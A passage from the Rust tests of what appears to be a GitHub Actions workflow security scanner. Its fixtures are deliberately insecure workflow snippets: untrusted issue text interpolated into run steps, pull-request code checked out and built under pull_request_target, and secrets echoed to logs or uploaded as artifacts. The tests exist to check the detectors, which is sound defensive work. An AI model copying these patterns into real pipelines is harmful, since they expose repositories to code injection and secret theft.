                 github.rest.issues.get({ issue_number: ${{ github.event.issue.number }} })\n",
                None,
            ),
            (
                "issues",
                "      - uses: some/other@v1\n        with:\n          script: ${{ \
                 github.event.issue.title }}\n",
                None,
            ),
        ];
        for (on, steps, want) in table {
            let found: Vec<_> = rules(&with_steps(on, steps))
                .into_iter()
                .filter(|(r, _)| r == "workflow-script-injection")
                .collect();
            assert_eq!(found.first().map(|f| f.1), *want, "{on}\n{steps}");
        }
    }

    #[test]
    fn an_injection_points_at_the_expression() {
        let text = with_steps(
            "issues",
            "      - run: |\n          echo start\n          echo \"${{ github.event.issue.body \
             }}\"\n",
        );
        let found = run(&text);
        let f = found
            .iter()
            .find(|f| f.rule.id == "workflow-script-injection")
            .expect("found");
        assert_eq!(f.location.line, 9);
        assert_eq!(f.location.column, 17);
    }

    #[test]
    fn untrusted_checkout_cases() {
        let checkout = "      - uses: actions/checkout@v4\n        with:\n          ref: \
                        refs/pull/${{ github.event.number }}/merge\n";
        let text = with_steps(
            "pull_request_target",
            &format!("{checkout}      - run: make\n"),
        );
        assert!(rules(&text).contains(&("workflow-untrusted-checkout".into(), Severity::Critical)));
        let text = with_steps("pull_request_target", checkout);
        assert!(rules(&text).contains(&("workflow-untrusted-checkout".into(), Severity::High)));
        let text = with_steps("workflow_run", "      - run: gh pr checkout 1 && make\n");
        assert!(
            rules(&text)
                .iter()
                .any(|(r, _)| r == "workflow-untrusted-checkout")
        );
        let text = with_steps("push", &format!("{checkout}      - run: make\n"));
        assert!(
            !rules(&text)
                .iter()
                .any(|(r, _)| r == "workflow-untrusted-checkout")
        );
    }

    #[test]
    fn secrets_in_logs_and_artifacts() {
        let table: &[(&str, Option<(&str, Severity)>)] = &[
            (
                "      - env:\n          K: ${{ secrets.K }}\n        run: echo $K\n",
                Some(("workflow-secret-in-log", Severity::Medium)),
            ),
            (
                "      - env:
          K: ${{ secrets.K }}
        run: |
          set -eux
          deploy
",
                Some(("workflow-secret-in-log", Severity::Low)),
            ),
            (
                "      - env:\n          K: ${{ secrets.K }}\n        run: echo $KEY_ID\n",
                None,
            ),
            (
                "      - run: echo \"${{ secrets.K }}\" | base64 -d > key.json\n",
                None,
            ),
            ("      - run: echo '${{ secrets.GITHUB_TOKEN }}'\n", None),
            ("      - run: echo \"::add-mask::${{ secrets.K }}\"\n", None),
            (
                "      - run: echo ${{ secrets.K }} > out/k.txt\n      - uses: \
                 actions/upload-artifact@v4\n        with:\n          path: |\n            \
                 out/**\n",
                Some(("workflow-secret-in-artifact", Severity::High)),
            ),
            (
                "      - run: echo ${{ secrets.K }} | tee ./k.txt\n      - uses: \
                 actions/upload-artifact@v4\n        with:\n          path: .\n",
                Some(("workflow-secret-in-artifact", Severity::High)),
            ),
        ];
        for (steps, want) in table {
            let found: Vec<_> = rules(&with_steps("push", steps))
                .into_iter()
                .filter(|(r, _)| r.contains("secret"))
                .collect();
            assert_eq!(
                found.first().map(|(r, s)| (r.as_str(), *s)),
                *want,
                "{steps}"
            );
        }
    }

    #[test]
    fn permissions_and_pins() {
        let text = "on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n      - \
                    uses: docker://node:20\n      - uses: a/b@main\n      - uses: a/b@main\n";
        let found = run(text);
        let perms = found
            .iter()
            .find(|f| f.rule.id == "workflow-default-permissions")
            .expect("permissions");
        assert_eq!(perms.severity, Severity::Medium);
        assert_eq!(perms.location.line, 2);
        let pins: Vec<_> = found
            .iter()
            .filter(|f| f.rule.id == "workflow-unpinned-action")
            .collect();
        assert_eq!(pins.len(), 1);
        assert!(
            pins[0]
                .message
                .as_deref()
                .is_some_and(|m| m.contains("docker://node:20 and 1 more"))
        );
        assert!(is_pinned("actions/setup-node@v4"));
        assert!(is_pinned(
            "owner/repo/.github/workflows/x.yml@0123456789abcdef0123456789abcdef01234567"
        ));
        assert!(!is_pinned("owner/repo/.github/workflows/x.yml@main"));
    }

    #[test]
    fn not_a_workflow_reports_nothing() {
        for text in [
            "",
            "- a\n- b\n",
            "on: [",
            "jobs: 3\n",
            "on: push\njobs:\n  a: 1\n",
        ] {
            let found: Vec<_> = run(text)
                .into_iter()
                .filter(|f| f.rule.id != "workflow-default-permissions")
                .collect();
            assert!(found.is_empty(), "{text}");
        }
    }

    proptest! {
        #![proptest_config(crate::engine::testing::cases(64))]

        /// Any text, YAML-ish or not, is checked without a panic, and every finding is inside
        /// the input.
        #[test]
        fn any_text_is_checked_without_panic(
            text in "(on: [a-z_]{1,20}\n|jobs:\n|  [a-z]:\n|    steps:\n|      - run: |\n|      \
                     - uses: [a-z/@.]{0,12}\n|        with:\n|          ref: |\\$\\{\\{ \
                     github.event.issue.title \\}\\}|\\$\\{\\{ secrets.A \\}\\}|echo |> f|\
                     [ -~\n]{0,12}){0,24}",
        ) {
            let lines = text.lines().count().max(1);
            for f in run(&text) {
                prop_assert!(f.location.line <= lines + 1);
            }
        }
    }
}
